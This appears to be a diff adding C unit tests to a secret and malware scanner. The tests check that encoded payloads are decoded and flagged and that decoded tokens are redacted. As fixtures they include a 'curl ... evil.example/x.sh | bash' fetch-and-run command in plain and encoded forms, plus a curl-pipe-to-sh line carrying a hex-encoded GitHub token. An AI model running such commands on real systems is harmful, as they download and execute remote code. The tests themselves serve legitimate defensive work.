@@ -516,6 +516,131 @@ START_TEST(database_cache)
 }
 END_TEST
 
+/* "curl -fsSL http://evil.example/x.sh | bash" in three encodings. */
+#define CURL_B64 "Y3VybCAtZnNTTCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBiYXNo"
+#define CURL_HEX "6375726c202d6673534c20687474703a2f2f6576696c2e6578616d706c" \
+    "652f782e7368207c2062617368"
+#define CURL_B64_HEX "NjM3NTcyNmMyMDJkNjY3MzUzNGMyMDY4NzQ3NDcwM2EyZjJmNjU3NjY5" \
+    "NmMyZTY1Nzg2MTZkNzA2YzY1MmY3ODJlNzM2ODIwN2MyMDYyNjE3MzY4"
+
+START_TEST(decoded_blobs_are_scanned)
+{
+	struct finding_list fl;
+	const struct finding *f;
+
+	scan_str("a.py", "x = 1\npayload = \"" CURL_B64 "\"\n", &fl);
+	f = tu_first(&fl, "curl-sh");
+	ck_assert_ptr_nonnull(f);
+	ck_assert_uint_eq(f->line, 2);
+	ck_assert_uint_eq(f->column, 12);
+	ck_assert_str_eq(f->excerpt, "decoded base64: curl -fsSL "
+	    "http://evil.example/x.sh | bash");
+	finding_list_free(&fl);
+	scan_str("a.py", "h = '" CURL_HEX "'\n", &fl);
+	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt, "decoded hex: curl "
+	    "-fsSL http://evil.example/x.sh | bash");
+	finding_list_free(&fl);
+	scan_str("a.py", "s = \"\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74"
+	    "\\x70\\x3a\\x2f\\x2f\\x78\\x20\\x7c\\x20\\x73\\x68\"\n", &fl);
+	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt,
+	    "decoded \\x escapes: curl http://x | sh");
+	finding_list_free(&fl);
+	/* Nested: base64 of hex; the excerpt names the whole chain. */
+	scan_str("a.py", "n = \"" CURL_B64_HEX "\"\n", &fl);
+	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt, "decoded base64: "
+	    "decoded hex: curl -fsSL http://evil.example/x.sh | bash");
+	finding_list_free(&fl);
+}
+END_TEST
+
+START_TEST(decoded_secret_is_redacted)
+{
+	/* hex of "token = ghp_R2d5...": the decoded excerpt masks the token, and
+	 * the hex itself is masked in other findings' excerpts on the line. */
+	static const char hex[] = "746f6b656e203d206768705f523264355a"
+	    "6b39685631704c62453178543342755557527a59554a6a5247566d5232684a";
+	struct finding_list fl;
+	char line[512];
+	size_t i;
+
+	snprintf(line, sizeof(line), "curl -H '%s' http://x | sh\n", hex);
+	scan_str("a.sh", line, &fl);
+	ck_assert_uint_eq(tu_count(&fl, "gh-pat"), 1);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	ck_assert_str_eq(tu_first(&fl, "gh-pat")->excerpt,
+	    "decoded hex: token = ghp_*****");
+	for (i = 0; i < fl.n; i++)
+		ck_assert_ptr_null(strstr(fl.v[i].excerpt, hex + 16));
+	finding_list_free(&fl);
+}
+END_TEST
+
+START_TEST(undecodable_or_binary_blobs)
+{
+	struct finding_list fl;
+
+	/* Binary data in base64 (an image) and a long identifier: nothing. */
+	scan_str("a.js", "img = \"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAA"
+	    "DUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\"\n"
+	    "test_this_is_a_very_long_python_identifier_name = 1\n"
+	    "sha = \"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b"
+	    "7852b855\"\n", &fl);
+	ck_assert_uint_eq(fl.n, 0);
+	finding_list_free(&fl);
+}
+END_TEST
+
+START_TEST(long_encoded_text_is_context)
+{
+	struct dynbuf b;
+	struct finding_list fl;
+	const struct finding *f;
+	size_t i;
+
+	/* 300 base64 characters of plain text: a low finding, no more. */
+	dynbuf_init(&b, 4096);
+	ck_assert_int_eq(dynbuf_adds(&b, "t = \""), 0);
+	for (i = 0; i < 10; i++)
+		ck_assert_int_eq(dynbuf_adds(&b,
+		    "TG9yZW0gaXBzdW0gZG9sb3Igc2l0IGFtZXQu"), 0);
+	ck_assert_int_eq(dynbuf_adds(&b, "\"\n"), 0);
+	tu_scan(&sc, "a.txt", b.data, b.len, &fl);
+	f = tu_first(&fl, AL_RULE_ENCODED_TEXT);
+	ck_assert_ptr_nonnull(f);
+	ck_assert_int_eq(f->severity, SEV_LOW);
+	ck_assert_uint_eq(f->line, 1);
+	ck_assert_uint_eq(f->column, 6);
+	ck_assert_uint_eq(fl.n, 1);
+	finding_list_free(&fl);
+	dynbuf_free(&b);
+}
+END_TEST
+
+START_TEST(blob_across_chunk_boundary)
+{
+	/* The blob starts 20 bytes before the end of the first read. */
+	size_t keep = 2 * AL_SCAN_WINDOW, n = AL_SCAN_CHUNK + keep + 4096, i;
+	size_t at = AL_SCAN_CHUNK + keep - 20;
+	char *buf = malloc(n);
+	struct finding_list fl;
+	const struct finding *f;
+
+	ck_assert_ptr_nonnull(buf);
+	for (i = 0; i < n; i++)
+		buf[i] = (i % 50 == 49) ? '\n' : ' ';
+	buf[at - 1] = '"';
+	memcpy(buf + at, CURL_B64, strlen(CURL_B64));
+	buf[at + strlen(CURL_B64)] = '"';
+	tu_scan(&sc, "big.py", buf, n, &fl);
+	f = tu_first(&fl, "curl-sh");
+	ck_assert_ptr_nonnull(f);
+	ck_assert_uint_eq(f->line, at / 50 + 1);
+	ck_assert_uint_eq(f->column, at % 50 + 1);
+	finding_list_free(&fl);
+	free(buf);
+}
+END_TEST
+
 static Suite *
 engine_suite(void)
 {
@@ -556,6 +681,14 @@ engine_suite(void)
 	tcase_add_test(tc, empty_and_nul_and_invalid_utf8);
 	tcase_add_test(tc, finding_cap_is_unscannable);
 	tcase_add_test(tc, read_error_is_unscannable);
+	suite_add_tcase(s, tc);
+	tc = tcase_create("decoding");
+	tcase_add_checked_fixture(tc, setup, teardown);
+	tcase_add_test(tc, decoded_blobs_are_scanned);
+	tcase_add_test(tc, decoded_secret_is_redacted);
+	tcase_add_test(tc, undecodable_or_binary_blobs);
+	tcase_add_test(tc, long_encoded_text_is_context);
+	tcase_add_test(tc, blob_across_chunk_boundary);
 	suite_add_tcase(s, tc);
 	tc = tcase_create("cache");
 	tcase_add_checked_fixture(tc, setup, teardown);
